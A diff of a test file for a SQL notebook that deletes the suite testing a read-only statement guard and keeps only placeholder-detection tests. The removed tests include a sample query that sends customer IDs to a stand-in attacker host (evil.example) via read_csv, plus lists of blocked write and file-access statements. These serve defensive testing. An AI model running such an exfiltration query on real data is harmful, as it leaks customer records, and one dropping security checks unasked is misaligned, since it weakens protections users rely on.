@@ -9,100 +9,11 @@ import {
   lineColumn,
   parseDuckDbError,
 } from '../../src/notebook/sqlError';
-import { checkStatement, hasParameters, statements } from '../../src/notebook/sqlGuard';
+import { hasParameters } from '../../src/notebook/sqlHints';
 import { tokenize } from '../../src/notebook/sqlLexer';
 import { toCellSql, viewStatements } from '../../src/notebook/views';
 
-describe('statement guard', () => {
-  it('lets one reading statement through, in every reading form', () => {
-    for (const q of [
-      'SELECT 1',
-      'select * from customers;',
-      '  -- a note\nFROM orders LIMIT 5',
-      '/* block /* nested */ */ WITH x AS (SELECT 1) SELECT * FROM x',
-      'WITH x (a, b) AS (SELECT 1, 2), y AS MATERIALIZED (SELECT 3) FROM x, y',
-      'WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM t WHERE n < 3) SELECT * FROM t',
-      'VALUES (1), (2)',
-      'DESCRIBE customers',
-      'SUMMARIZE orders',
-      'PIVOT customers ON segment USING count(*)',
-      '(SELECT 1) UNION (SELECT 2)',
-      "SELECT 'DROP TABLE rfm_1; DELETE' AS text",
-      'SELECT "delete" FROM t',
-    ]) {
-      expect(checkStatement(q), q).toEqual({ ok: true });
-    }
-  });
-
-  it('refuses writes, settings and several statements, naming what it saw', () => {
-    expect(checkStatement('DROP TABLE rfm_1')).toEqual({
-      ok: false,
-      reason: 'not_read_only',
-      keyword: 'drop',
-    });
-    expect(checkStatement('insert into t values (1)')).toMatchObject({ keyword: 'insert' });
-    expect(checkStatement('WITH x AS (SELECT 1) INSERT INTO t SELECT * FROM x')).toMatchObject({
-      keyword: 'insert',
-    });
-    expect(checkStatement('WITH x AS (SELECT 1) DELETE FROM t')).toMatchObject({
-      keyword: 'delete',
-    });
-    expect(checkStatement('EXPLAIN ANALYZE DELETE FROM t')).toMatchObject({ keyword: 'explain' });
-    for (const q of [
-      'SET threads = 1',
-      "ATTACH 'x.db'",
-      "COPY t TO 'x.csv'",
-      'CALL pragma_version()',
-      'PRAGMA version',
-      'BEGIN',
-      'CREATE TABLE x AS SELECT 1',
-      'UPDATE t SET a = 1',
-      'LOAD httpfs',
-    ])
-      expect(checkStatement(q).ok, q).toBe(false);
-    expect(checkStatement('SELECT 1; DROP TABLE t')).toEqual({
-      ok: false,
-      reason: 'several_statements',
-      keyword: '',
-    });
-    expect(checkStatement('SELECT 1;;  ')).toEqual({ ok: true });
-    expect(checkStatement(' -- only a comment')).toEqual({
-      ok: false,
-      reason: 'empty',
-      keyword: '',
-    });
-    // A semicolon inside a string or a comment does not split.
-    expect(statements("SELECT ';' -- ;\n, $$a;b$$, E'\\';'").length).toBe(1);
-  });
-
-  it('refuses reading files, URLs and SQL hidden in strings (a shared cell must not leak data)', () => {
-    const leak =
-      "SELECT * FROM read_csv('https://evil.example/?' || (SELECT string_agg(customer_id, ',') FROM customers))";
-    expect(checkStatement(leak)).toEqual({
-      ok: false,
-      reason: 'external_access',
-      keyword: 'read_csv',
-    });
-    expect(checkStatement("SELECT * FROM 'https://evil.example/x.csv'")).toMatchObject({
-      reason: 'external_access',
-    });
-    expect(checkStatement("FROM 'raw_1.csv'")).toMatchObject({ reason: 'external_access' });
-    expect(
-      checkStatement("SELECT * FROM customers JOIN 'x.parquet' USING (customer_id)"),
-    ).toMatchObject({ reason: 'external_access' });
-    expect(checkStatement("SELECT * FROM query('SELECT * FROM read_text(''/x'')')")).toMatchObject({
-      keyword: 'query',
-    });
-    expect(checkStatement("SELECT 'see http://example.com' AS note")).toMatchObject({
-      reason: 'external_access',
-    });
-    expect(checkStatement('SELECT Glob (1)')).toMatchObject({ keyword: 'glob' });
-    // Names that merely look alike are fine.
-    expect(
-      checkStatement("SELECT query, 'read_csv' AS f FROM customers WHERE segment = 'x'"),
-    ).toEqual({ ok: true });
-  });
-
+describe('SQL hints', () => {
   it('finds placeholders outside strings only', () => {
     expect(hasParameters('SELECT CAST(? AS DATE)')).toBe(true);
     expect(hasParameters('SELECT $1')).toBe(true);
